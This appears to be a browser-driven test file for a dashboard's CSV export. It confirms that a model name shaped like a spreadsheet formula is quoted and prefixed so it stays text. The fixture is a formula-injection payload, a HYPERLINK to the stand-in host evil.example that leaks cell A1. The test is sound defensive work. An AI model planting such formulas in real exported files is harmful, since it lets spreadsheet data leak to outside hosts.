// The dashboard's own CSV download (spend by model, built in the browser from the table) goes through
// the server's CSV writer: a model name a caller chose to look like a spreadsheet formula comes out as text.
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDashboardStack, type DashboardStack } from './browser.js';

const FORMULA_MODEL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
let stack: DashboardStack;

beforeAll(async () => {
  stack = await startDashboardStack();
  // Whatever the caller names its model is recorded (and shown) as given.
  await stack
    .client(stack.features[0])
    .chat.completions.create({ model: FORMULA_MODEL, messages: [{ role: 'user', content: 'formula?' }] })
    .catch((e: unknown) => e);
  await stack.client(stack.features[0]).chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'plain' }] });
  await stack.events();
}, 60_000);
afterAll(() => stack?.closeAll());

describe('dashboard CSV export', () => {
  it('guards a model name like =HYPERLINK(...) in the spend-by-model download', async () => {
    const events = await stack.events();
    expect(events.map((e) => e.model)).toContain(FORMULA_MODEL);
    const { page } = await stack.signIn('finance', '/finance?range=24h&bucket=hour&tz=UTC');
    const rows = page.locator('[data-table="finance-model"] tbody tr');
    await rows.filter({ hasText: 'HYPERLINK' }).first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button[data-csv="model"]').click()]);
    // The period is in the file name (from, to, zone) and in columns of every row.
    expect(download.suggestedFilename()).toMatch(/^spend-by-model_\d{4}-\d{2}-\d{2}T\d{4}Z_\d{4}-\d{2}-\d{2}T\d{4}Z_UTC\.csv$/);
    const text = await readFile((await download.path())!, 'utf8');
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('model,period_from,period_to,time_zone,requests,input_tokens,output_tokens,cost_usd,share_of_cost,estimated_cost_usd,unpriced_requests,estimated_requests');
    const formula = lines.find((l) => l.includes('HYPERLINK'));
    // Quoted (it has commas and quotes), inner quotes doubled, and prefixed with ' so it is text, not a formula.
    expect(formula?.startsWith(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`)).toBe(true);
    expect(lines.some((l) => l.startsWith('gpt-4o-mini,'))).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  }, 60_000);
});
